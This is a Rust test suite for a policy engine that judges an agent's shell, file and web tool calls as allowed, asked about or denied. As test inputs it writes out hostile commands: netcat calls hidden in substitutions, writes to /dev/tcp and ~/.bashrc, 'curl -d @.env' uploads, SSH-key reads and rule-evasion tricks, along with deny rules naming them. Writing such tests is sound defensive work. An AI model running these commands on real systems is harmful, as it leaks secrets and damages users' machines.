//! The promises of judging: which calls are allowed, asked about and denied, and by which rule.

use std::sync::LazyLock;

use proptest::prelude::*;
use toolwarden_tools::tool::{Lane, Subject};

use super::command::visible_paths;
use super::grant::{GRANTS_MAX, GrantError, Grants};
use super::{Judged, Places, ResolvedPath, Verdict, all_of, judge, judge_with};
use crate::policy::PermissionPolicy;
use crate::policy::compiled::CompiledPolicy;

fn compiled(toml: &str) -> CompiledPolicy {
    CompiledPolicy::new(&PermissionPolicy::from_toml(toml, "policy.toml").unwrap()).unwrap()
}

fn shell(policy: &CompiledPolicy, command: &str) -> Verdict {
    shell_at(policy, command, &[])
}

fn shell_at(policy: &CompiledPolicy, command: &str, resolved: &[ResolvedPath]) -> Verdict {
    let subject = Subject::Command(command.to_owned());
    judge(
        policy,
        &Judged { tool: "bash", lane: &Lane::Execute, subject: &subject, resolved, places: Places::default() },
    )
}

fn bash(subject: &Subject) -> Judged<'_> {
    Judged { tool: "bash", lane: &Lane::Execute, subject, resolved: &[], places: Places::default() }
}

fn path(policy: &CompiledPolicy, tool: &str, requested: &str, resolved: Option<&str>) -> Verdict {
    let subject = Subject::Paths { paths: vec![requested.to_owned()], write: tool != "read" };
    let resolved: Vec<_> = resolved.into_iter().map(|resolved| leads(requested, resolved)).collect();
    judge(
        policy,
        &Judged { tool, lane: &Lane::Query, subject: &subject, resolved: &resolved, places: Places::default() },
    )
}

fn leads(requested: &str, resolved: &str) -> ResolvedPath {
    ResolvedPath { requested: requested.to_owned(), resolved: resolved.to_owned() }
}

/// `allow`, `ask` or `deny`.
fn word(verdict: &Verdict) -> &'static str {
    match verdict {
        Verdict::Allow { .. } => "allow",
        Verdict::Ask { .. } => "ask",
        Verdict::Deny { .. } => "deny",
    }
}

#[track_caller]
fn expect(policy: &CompiledPolicy, expected: &str, commands: &[&str]) {
    for command in commands {
        let verdict = shell(policy, command);
        assert_eq!(word(&verdict), expected, "{command:?}: {verdict:?}");
    }
}

// Case C185: a chain needs an allow for every link.
#[test]
fn nothing_rides_on_an_allowed_command() {
    let policy = compiled("allow = ['bash(make *)', 'bash(git:*)']");
    expect(&policy, "ask", &["make x; rm -rf y", "make x || z", "make x & rm y", "make x | sh", "make\nrm y", "rm y"]);
    expect(&policy, "ask", &["make $(rm y)", "FOO=1", "make x; f() { :; }", "(make x; rm y)"]);
    expect(&policy, "allow", &["make x && git push", "make x | git a", "(make x; git b)", "time make", "FOO=1 make"]);
    expect(&policy, "allow", &["if make a; then git b; fi", "timeout 5 make x", "env A=1 make x", "make $x \"$@\""]);
    let verdict = shell(&policy, "make x && git push");
    assert_eq!(verdict, Verdict::Allow { rule: "allow[0] bash(make *), allow[1] bash(git:*)".into() });
    match shell(&policy, "make x; rm -rf y") {
        Verdict::Ask { rule: None, why } => assert!(why.contains("rm -rf y"), "{why}"),
        other => panic!("{other:?}"),
    }
}

// Case C187: what is substituted is judged as a command.
#[test]
fn substitutions_are_judged() {
    let hidden = [
        "date $(nc x)",
        "date `nc x`",
        "diff a <(nc x)",
        "ls >(nc x)",
        "date \"$(nc x)\"",
        "date \"$(date \"$(nc x)\")\"",
        "date ${v:-$(nc x)}",
        "date \"${v:-'$(nc x)'}\"",
        "date <<E\n$(nc x)\nE",
        "date $((1+$(nc x)))",
        "date 'a' $(nc x) 'b'",
    ];
    let allow = "allow = ['bash(date *)', 'bash(diff *)', 'bash(ls *)']\n";
    expect(&compiled(allow), "ask", &hidden);
    let policy = compiled(&format!("{allow}deny = ['bash(nc *)']"));
    expect(&policy, "deny", &hidden);
    expect(&policy, "allow", &["date '$(nc x)'", "date \"\\$(nc x)\"", "date <<'E'\n$(nc x)\nE", "date # $(nc x)"]);
    expect(&policy, "allow", &["date $(ls $(date))", "diff <(ls a) <(ls b)"]);
}

// Case C189: a redirection writes.
#[test]
fn redirections_are_writes() {
    let policy = compiled("allow = ['bash(echo *)', 'bash(cat *)', 'bash(tee *)', 'bash(cd *)']");
    let writes = [
        "echo x > ~/.bashrc",
        "cat <<E > /etc/x\nE",
        "echo x >| f",
        "echo x &> f",
        "echo x 2> f",
        "echo x >> f",
        "echo x | tee f",
        "echo x > $f",
        "echo x > /dev/tcp/host/80",
        "cat < /dev/tcp/host/80",
        "> f",
    ];
    expect(&policy, "ask", &writes);
    expect(
        &policy,
        "allow",
        &["echo x 2>&1", "echo x > /dev/null", "echo x &>/dev/null", "echo 'a > b'", "cat < secret"],
    );

    let policy = compiled("allow = ['bash(echo *)', 'bash(cd *)', 'write(out/**)', 'write(/tmp/**)']");
    expect(&policy, "allow", &["echo x > out/f", "echo x > ./out/a/b", "echo x > /tmp/f", "cd a && echo x > /tmp/f"]);
    expect(&compiled("allow = ['bash(echo *)', 'write(**)']"), "allow", &["echo x > f", "echo > a/b"]);
    expect(
        &compiled("allow = ['bash(echo *)', 'write(**)']"),
        "ask",
        &["echo x > /etc/x", "echo > ~/x", "echo > ../x"],
    );
    expect(&policy, "ask", &["echo x > out/../f", "echo x > f", "echo x > /tmp/../etc/x", "cd a && echo x > out/f"]);
    let link = [leads("out/link", "/etc/passwd")];
    assert_eq!(word(&shell_at(&policy, "echo x > out/link", &link)), "ask");

    let policy = compiled("deny = ['read(secret)', 'write(**/*.rs)', 'edit(b)']\nallow = ['bash', 'write']");
    expect(&policy, "deny", &["x < secret", "x < ./a/../secret", "x > a.rs", "cd src && x > a.rs", "x >> b"]);
    expect(&policy, "ask", &["x > a.r?", "x < $y/secret"]);
    expect(&policy, "allow", &["x < a.rs", "x > c"]);
    expect(&compiled("ask = ['write']\nallow = ['bash']"), "ask", &["echo > f"]);
    expect(&compiled("deny = ['write']\nallow = ['bash']"), "deny", &["echo > f", "echo | tee f"]);
    expect(&compiled("deny = ['write']\nallow = ['bash']"), "allow", &["make x"]);
}

// Case C190: deny needs one part, allow needs all, whatever the order.
#[test]
fn deny_and_allow_look_opposite_ways() {
    let policy =
        compiled("allow = ['bash(date *)', 'bash(nc *)', 'bash(ls *)']\ndeny = ['bash(nc *)']\nask = ['bash(ls *)']");
    let denied = [
        "date | nc x",
        "FOO=1 nc x",
        "ls && nc x",
        "nc",
        "/usr/bin/nc x",
        "\\nc x",
        "n'c' x",
        "env nc x",
        "sudo nc x",
        "sh -c 'nc x'",
        "a | xargs nc",
        "find . -exec nc {} +",
        "nohup nc x",
        "eval 'nc x'",
        "trap 'nc x' EXIT",
        "exec nc",
        "command nc",
        "coproc nc x",
        "time nc x",
        "timeout 5 nc x",
        "f() { nc x; }",
        "$x; nc",
        "nc x; \"",
        "( (nc x) )",
    ];
    expect(&policy, "deny", &denied);
    assert_eq!(
        shell(&policy, "date | nc x"),
        Verdict::Deny { rule: "deny[0] bash(nc *)".into(), why: "deny[0] bash(nc *) forbids \"nc x\"".into() }
    );
    expect(&policy, "ask", &["ls", "date; ls", "/bin/ls", "$x y", "eval \"$x\"", "bash -c \"$x\"", "date | sh"]);
    match shell(&policy, "date; ls") {
        Verdict::Ask { rule, .. } => assert_eq!(rule.as_deref(), Some("ask[0] bash(ls *)")),
        other => panic!("{other:?}"),
    }
    expect(&policy, "allow", &["date", "date x"]);
    // An allow is for the name as it is written, not for any file of that name.
    expect(&policy, "ask", &["./date x", "/tmp/date"]);
    // A deny that an unknown word may meet asks.
    expect(&compiled("deny = ['bash(git push *)']\nallow = ['bash(git *)']"), "ask", &["git $x", "git *"]);
    expect(&compiled("deny = ['bash(git push *)']\nallow = ['bash(git *)']"), "allow", &["git log $x"]);
}

// Case C192: where wildcards end.
#[test]
fn wildcards_in_shell_rules() {
    for rule in ["git:*", "git *"] {
        let policy = compiled(&format!("allow = ['bash({rule})']"));
        expect(&policy, "allow", &["git", "git\tpush", "git  push", "git push origin a/b", "'git' push"]);
        expect(&policy, "ask", &["gitleaks x", "GIT push", "git-x", "./git push"]);
    }
    let policy = compiled("allow = ['bash(npm run test*)']");
    expect(&policy, "ask", &["npm run test-and-deploy", "npm run"]);
    expect(&policy, "allow", &["npm run test", "npm run test -- -w"]);
    expect(&compiled("deny = ['bash(npm run test*)']"), "deny", &["npm run test-and-deploy"]);
    expect(&compiled("allow = ['bash(*)']"), "allow", &["anything x; else $y", "eval $x", "echo > f", "$x"]);
    let policy = compiled("allow = ['bash(*)']\ndeny = ['bash(rm -rf *)']");
    expect(&policy, "deny", &["rm -rf x", "rm -rf"]);
    // The order of flags is not understood: such commands want a rule on their name.
    expect(&policy, "allow", &["rm -r -f x"]);
    expect(&policy, "ask", &["rm $x", "eval $x", "$x", "f() { a; }"]);
    expect(&compiled("allow = ['bash(*)']\ndeny = ['bash(rm *)']"), "deny", &["rm -r -f x", "rm"]);
}

#[test]
fn doubts_ask_and_a_spelled_out_rule_settles_its_own() {
    let policy =
        compiled("allow = ['bash(source *)', 'bash(pytest *)', 'bash(eval *)', 'bash(git *)', 'bash(bash *)']");
    expect(
        &policy,
        "allow",
        &["source .venv/bin/activate && pytest", "eval 'pytest x'", "bash -c 'git a'", "bash x.sh"],
    );
    expect(&policy, "ask", &["eval 'rm x'", "eval $x", "bash -c 'rm x'", ". x && pytest", "PATH=/tmp pytest"]);
    expect(&policy, "ask", &["git() { rm x; }; git", "alias git=rm", "git a | bash", "LD_PRELOAD=x git a", "git \"a"]);
    expect(&policy, "ask", &[&format!("git {}", "x".repeat(20_000)), &"git $(".repeat(40)]);
    expect(&compiled("default = 'allow'"), "allow", &["anything $(x)", "$x", "echo > f"]);
    expect(&compiled("default = 'allow'\ndeny = ['bash(nc *)']"), "ask", &["$x", "eval $x"]);
    expect(&compiled("default = 'deny'\nallow = ['bash(git *)']"), "deny", &["ls", "git a; ls", "$x", "\""]);
    expect(&compiled("default = 'deny'\nallow = ['bash(git *)']"), "ask", &["PATH=/tmp git a"]);
    expect(&compiled("enabled = false\ndeny = ['bash']"), "allow", &["rm x"]);
    expect(&compiled("deny = ['bash']\nallow = ['bash']"), "deny", &["ls", ""]);
    expect(&compiled("allow = ['lane:execute']"), "allow", &["ls > x"]);
}

// Case C066: a path counts by its spelling and by where it leads.
#[test]
fn aliases_do_not_dodge_a_deny() {
    let policy =
        compiled("deny = ['read(.env)', 'Read(secrets/**)']\nallow = ['read(**)', 'bash(cat *)', 'bash(cd *)']");
    for (requested, resolved) in [
        (".env", None),
        ("./x/../.env", None),
        ("plain", Some(".env")),
        ("/home/me/project/.env", Some(".env")),
        ("file:///home/me/project/.env", Some(".env")),
        ("secrets/link", Some("elsewhere")),
        ("x", Some("secrets/a/b")),
    ] {
        assert_eq!(word(&path(&policy, "read", requested, resolved)), "deny", "{requested}");
    }
    assert_eq!(word(&path(&policy, "READ", "src/a.rs", None)), "allow");
    assert_eq!(word(&path(&policy, "read", "../x", None)), "ask");
    assert_eq!(
        path(&policy, "read", "plain", Some(".env")),
        Verdict::Deny { rule: "deny[0] read(.env)".into(), why: "deny[0] read(.env) forbids this call of read".into() }
    );
    expect(
        &policy,
        "deny",
        &["cat .env", "cat ./x/../.env", "cat a secrets/b", "cd secrets && cat ../.env", "x -f.env", "x --f=.env"],
    );
    expect(&policy, "deny", &["cd secrets && cat key", "cat < .env", "sh -c 'cat .env'", "cat $(cat .env)"]);
    expect(&policy, "ask", &["cat .en?", "cat $HOME/.env", "cat sec*/key", "cat {.env,a}"]);
    expect(&policy, "allow", &["cat src/a.rs", "cat *.rs", "cat $x"]);
    let link = [leads("plain", ".env")];
    assert_eq!(word(&shell_at(&policy, "cat plain", &link)), "deny");
    assert_eq!(
        visible_paths("cat plain < in > out; cd d; x --f=g"),
        ["cat", "d", "d/d", "d/g", "d/plain", "g", "in", "out", "plain"][1..]
    );
    let policy = compiled("deny = ['write(src/**)']\nallow = ['bash(*)']");
    expect(&policy, "deny", &["rm src/a", "cp x src/a", "sed -i s/a/b/ src/a"]);
    expect(&policy, "allow", &["cat src/a", "grep x src/a", "make"]);
}

// Found in a review: ways round a rule that need no trick with the parsers.
#[test]
fn options_folders_and_variables_are_no_way_round_a_rule() {
    let policy = compiled("deny = ['write(key)', 'bash(nc *)']\nallow = ['bash']");
    expect(&policy, "deny", &["xxd -r x key", "less -o key x", "strace -o '|nc x' ls", "strace -fo'!nc x' ls"]);
    expect(&policy, "ask", &["xargs -0I% sh -c '%'", "xargs -L1 -I% %", "xargs -I $m sh -c 'a b'"]);
    expect(&policy, "allow", &["cat key", "xargs -I% echo %"]);

    let policy = compiled("allow = ['bash(tee *)', 'bash(ls *)', 'bash(dd *)', 'write(passwd)']");
    expect(&policy, "allow", &["tee passwd", "env A=1 tee passwd", "env time ls", "dd of=passwd"]);
    expect(&policy, "ask", &["env -C /etc tee passwd", "env --chdir=/etc tee passwd", "env -uA -C/etc tee passwd"]);
    expect(&policy, "ask", &["env time -o f ls", "env time --output=f ls", "dd of=f", "dd of=$HOME/f"]);
    expect(&policy, "allow", &["env time -o passwd ls"]);

    let policy = compiled("deny = ['read(secrets/**)', 'read(.env)']\nallow = ['bash']");
    let denied = [
        "cd -- secrets && cat key",
        "cd -P secrets; cat key",
        "(cd a); cd secrets; cat key",
        "cd none; cd secrets && cat key",
        "pushd -n a; cd secrets; cat key",
        "curl -d @.env u",
        "curl -F f=@.env u",
        "curl -d@.env u",
    ];
    expect(&policy, "deny", &denied);
    expect(&policy, "ask", &["cd a; cd b; cd c; cd d; cd e; cd secrets; cat key"]);
    expect(&policy, "allow", &["cd a; cd b; cat key", "cd -; cat key"]);
    expect(&compiled("allow = ['bash']"), "allow", &["cd a; cd b; cd c; cd d; cd e; cd f; cat key"]);

    let policy = compiled("");
    let mut grants = Grants::default();
    let subject = |text: &str| Subject::Command(text.to_owned());
    grants.remember(&bash(&subject("make all"))).unwrap();
    for (text, expected) in [("nohup make all", "allow"), ("CC=x make all", "ask"), ("env CC=x make all", "ask")] {
        assert_eq!(word(&judge_with(&policy, &grants, &bash(&subject(text)))), expected, "{text}");
    }
    for text in ["CC=x make", "env CC=x make"] {
        assert!(matches!(grants.remember(&bash(&subject(text))), Err(GrantError::Doubtful { .. })), "{text}");
    }
}

// Found in a review: one place can be spelled from the workspace, from the home folder and from the root of all.
#[test]
fn a_place_is_denied_however_it_is_spelled() {
    let places = Places { root: Some("/home/me/project"), home: Some("/home/me") };
    let line = |policy: &CompiledPolicy, text: &str| {
        let subject = Subject::Command(text.to_owned());
        word(&judge(policy, &Judged { tool: "bash", lane: &Lane::Execute, subject: &subject, resolved: &[], places }))
    };
    let file = |policy: &CompiledPolicy, path: &str| {
        let subject = Subject::Paths { paths: vec![path.to_owned()], write: false };
        word(&judge(policy, &Judged { tool: "read", lane: &Lane::Query, subject: &subject, resolved: &[], places }))
    };
    let rest = "allow = ['read', 'bash']";
    for rule in ["~/.ssh/**", "/home/me/.ssh/**"] {
        let policy = compiled(&format!("deny = ['read({rule})']\n{rest}"));
        for spelling in
            ["~/.ssh/key", "/home/me/.ssh/key", "../.ssh/key", "~me/.ssh/key", "/home/me/project/../.ssh/key"]
        {
            for command in ["cat {}", "x < {}", "grep -f{} a"] {
                let command = command.replace("{}", spelling);
                assert_eq!(line(&policy, &command), "deny", "{rule} {command}");
            }
        }
        for command in ["cd ~/.ssh && cat key", "cd && cat .ssh/key", "cd ..; cat .ssh/key"] {
            assert_eq!(line(&policy, command), "deny", "{rule} {command}");
        }
        assert_eq!(line(&policy, "cat $HOME/.ssh/key"), "ask", "{rule}");
        for other in ["cat .ssh/key", "cat ~you/.ssh/key", "cat /home/meow/.ssh/key", "cat ~/ssh/key"] {
            assert_eq!(line(&policy, other), "allow", "{rule} {other}");
        }
    }
    for rule in ["secret/**", "~/project/secret/**", "/home/me/project/secret/**"] {
        let policy = compiled(&format!("deny = ['read({rule})']\n{rest}"));
        for spelling in ["secret/key", "/home/me/project/secret/key", "./a/../secret/key"] {
            assert_eq!(
                (file(&policy, spelling), line(&policy, &format!("cat {spelling}"))),
                ("deny", "deny"),
                "{rule} {spelling}"
            );
        }
        assert_eq!((file(&policy, "secrets"), line(&policy, "cat ~/secret/key")), ("allow", "allow"), "{rule}");
    }
    // Where nobody knows them, a spelling is what it is.
    let policy = compiled("deny = ['read(~/.ssh/**)']\nallow = ['bash']");
    expect(&policy, "deny", &["cat ~/.ssh/key"]);
    expect(&policy, "allow", &["cat /home/me/.ssh/key", "cat ../.ssh/key"]);
}

#[test]
fn an_ask_about_files_is_put_for_commands_too() {
    let policy = compiled("ask = ['read(secret/**)', 'write(out/**)']\nallow = ['bash', 'read']");
    expect(
        &policy,
        "ask",
        &["cat secret/key", "cat < secret/key", "make secret/key", "rm out/a", "tee out/a", "x > out/a"],
    );
    expect(&policy, "ask", &["cat sec*/key", "cat $HOME/secret/key", "cd secret && cat key"]);
    expect(&policy, "allow", &["cat out/a", "cat key", "make all"]);
    match shell(&policy, "cat a secret/key") {
        Verdict::Ask { rule, .. } => assert_eq!(rule.as_deref(), Some("ask[0] read(secret/**)")),
        other => panic!("{other:?}"),
    }
    // A rule on every call of a tool is about the tool.
    expect(&compiled("ask = ['read']\nallow = ['bash']"), "allow", &["cat key"]);
    expect(
        &compiled("ask = ['read(secret/**)']\ndeny = ['read(secret/key)']\nallow = ['bash']"),
        "deny",
        &["cat secret/key"],
    );
}

#[test]
fn an_allow_must_hold_for_where_the_path_leads() {
    let policy = compiled("allow = ['write(out/**)', 'read(docs:*)']");
    assert_eq!(word(&path(&policy, "write", "out/a", None)), "allow");
    assert_eq!(word(&path(&policy, "write", "out/a", Some("out/a"))), "allow");
    assert_eq!(word(&path(&policy, "write", "out/a", Some("src/a"))), "ask");
    assert_eq!(word(&path(&policy, "write", "link", Some("out/a"))), "allow");
    assert_eq!(word(&path(&policy, "edit", "out/a", None)), "ask");
    assert_eq!(word(&path(&policy, "read", "docs/a/b", None)), "allow");
    assert_eq!(word(&path(&policy, "read", "docs-secret/a", None)), "ask");
    let many = Subject::Paths { paths: vec!["out/a".into(), "b".into()], write: true };
    let judged =
        Judged { tool: "write", lane: &Lane::Execute, subject: &many, resolved: &[], places: Places::default() };
    assert_eq!(word(&judge(&policy, &judged)), "ask");
    assert_eq!(word(&judge(&compiled("allow = ['write(out/*)', 'write(b)']"), &judged)), "allow");
    assert_eq!(word(&judge(&compiled("allow = ['write']\nask = ['write(b)']"), &judged)), "ask");
}

#[test]
fn other_tools_are_judged_by_their_text() {
    let text = |policy: &CompiledPolicy, tool: &str, text: &str| {
        let subject = Subject::Text(text.to_owned());
        judge(
            policy,
            &Judged { tool, lane: &Lane::Search, subject: &subject, resolved: &[], places: Places::default() },
        )
    };
    let policy =
        compiled("allow = ['grep', 'web_search', 'lane:browser']\ndeny = ['web_fetch(*evil.com*)', 'mcp__db__drop*']");
    assert_eq!(word(&text(&policy, "search", "grep a/b src/c")), "allow");
    assert_eq!(word(&text(&policy, "search", "glob **/x .")), "ask");
    assert_eq!(word(&text(&policy, "web_fetch", "{\"url\":\"https://evil.com/x\"}")), "deny");
    assert_eq!(word(&text(&policy, "mcp__db__drop_table", "{}")), "deny");
    assert_eq!(word(&text(&policy, "Web_Search", "{}")), "allow");
    assert_eq!(word(&text(&compiled("allow = ['mcp__db']"), "mcp__db__x", "{}")), "allow");
    assert_eq!(word(&text(&compiled("allow = ['mcp__db']"), "mcp__dbx__x", "{}")), "ask");
}

#[test]
fn the_strictest_of_several_policies_wins() {
    let parent = compiled("allow = ['bash(git *)']\ndeny = ['bash(git push *)']");
    let child = compiled("allow = ['bash']");
    let both = all_of([&parent, &child]);
    let subject = |command: &str| Subject::Command(command.to_owned());
    for (command, expected) in [("git status", "allow"), ("rm x", "ask"), ("git push", "deny")] {
        let subject = subject(command);
        let judged =
            Judged { tool: "bash", lane: &Lane::Execute, subject: &subject, resolved: &[], places: Places::default() };
        assert_eq!(word(&both.judge(&judged)), expected, "{command}");
        assert_eq!(word(&all_of([&child, &parent]).judge(&judged)), expected, "{command}");
        assert_eq!(word(&all_of([]).judge(&judged)), "ask");
    }
    let hidden = compiled("deny = ['bash']");
    assert!(both.exposes("bash", &Lane::Execute) && !all_of([&child, &hidden]).exposes("bash", &Lane::Execute));
}

// Case C196, the part about rules: a grant covers what was shown and nothing else.
#[test]
fn grants_are_narrow_and_beaten_by_deny_and_ask() {
    let policy = compiled("deny = ['bash(nc *)']\nask = ['bash(git push *)']");
    let mut grants = Grants::default();
    let command = |text: &str| Subject::Command(text.to_owned());
    let judged = bash;
    for granted in ["make  'all' > out/log", "nc x", "git push"] {
        grants.remember(&judged(&command(granted))).unwrap();
    }
    for (text, expected) in [
        ("make all", "allow"),
        ("make all > ./out/log && make all", "allow"),
        ("make all > out/other", "ask"),
        ("make", "ask"),
        ("make all x", "ask"),
        ("make all; ls", "ask"),
        ("nc x", "deny"),
        ("git push", "ask"),
    ] {
        assert_eq!(word(&judge_with(&policy, &grants, &judged(&command(text)))), expected, "{text}");
    }
    for doubtful in ["make $x", "eval a", "cd a && make > b", "make > $x", "a \"b"] {
        let before = grants.clone();
        let result = grants.remember(&judged(&command(doubtful)));
        assert!(matches!(result, Err(GrantError::Doubtful { .. })), "{doubtful}");
        assert_eq!(grants, before);
    }
    let subject = Subject::Paths { paths: vec!["link".into()], write: true };
    let resolved = [leads("link", "a")];
    let write = |resolved| Judged {
        tool: "write",
        lane: &Lane::Execute,
        subject: &subject,
        resolved,
        places: Places::default(),
    };
    grants.remember(&write(&resolved)).unwrap();
    assert_eq!(word(&judge_with(&policy, &grants, &write(&resolved))), "allow");
    assert_eq!(word(&judge_with(&policy, &grants, &write(&[leads("link", "b")]))), "ask");
    for number in 0..GRANTS_MAX {
        let _ = grants.remember(&judged(&command(&format!("x {number}"))));
    }
    assert_eq!(grants.remember(&judged(&command("one more"))), Err(GrantError::Full));
}

static ONLY_OK: LazyLock<CompiledPolicy> = LazyLock::new(|| compiled("allow = ['bash(ok1 *)', 'bash(ok2 *)']"));
static ALL_BUT_BAD: LazyLock<CompiledPolicy> =
    LazyLock::new(|| compiled("allow = ['bash']\ndeny = ['bash(bad1 *)', 'bash(bad2 *)']"));

/// A command line of a small grammar, with the names of all commands in it.
fn line(depth: u32) -> BoxedStrategy<(String, Vec<&'static str>)> {
    let name = proptest::sample::select(vec!["ok1", "ok2", "bad1", "bad2"]);
    let simple = (name, proptest::sample::select(vec!["", " a", " 'b; c'", " \"d | e\"", " $x", " 2>&1"]));
    let simple = simple.prop_map(|(name, rest)| (format!("{name}{rest}"), vec![name]));
    simple
        .prop_recursive(depth, 16, 2, |inner| {
            let joint = proptest::sample::select(vec![" && ", " || ", "; ", " | ", " & ", "\n"]);
            let around = proptest::sample::select(vec![
                ("(", ")"),
                ("( ( ", " ) )"),
                ("{ ", "; }"),
                ("ok1 $( ", ")"),
                ("ok1 \"$( ", ")\""),
                ("ok1 <( ", ")"),
                ("ok1 ${v:-$( ", ")}"),
                ("ok1 <<E\n$( ", ")\nE"),
                ("if ", "; then ok1; fi"),
                ("for i in a; do ", "; done"),
                ("time ", ""),
                ("! ", ""),
                ("x=$( ", ")"),
                ("[[ a == $( ", ") ]]"),
            ]);
            prop_oneof![
                (inner.clone(), joint, inner.clone()).prop_map(|((left, mut names), joint, (right, more))| {
                    names.extend(more);
                    (format!("{left}{joint}{right}"), names)
                }),
                (around, inner).prop_map(|((open, close), (text, names))| (format!("{open}{text}{close}"), names)),
            ]
        })
        .boxed()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 128, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn an_allowed_line_holds_only_allowed_names((text, names) in line(4)) {
        if let Verdict::Allow { .. } = shell(&ONLY_OK, &text) {
            prop_assert!(names.iter().all(|name| name.starts_with("ok")), "{}", text);
        }
        let verdict = shell(&ALL_BUT_BAD, &text);
        if names.iter().any(|name| name.starts_with("bad")) {
            prop_assert!(!matches!(verdict, Verdict::Allow { .. }), "{}", text);
        }
    }
}
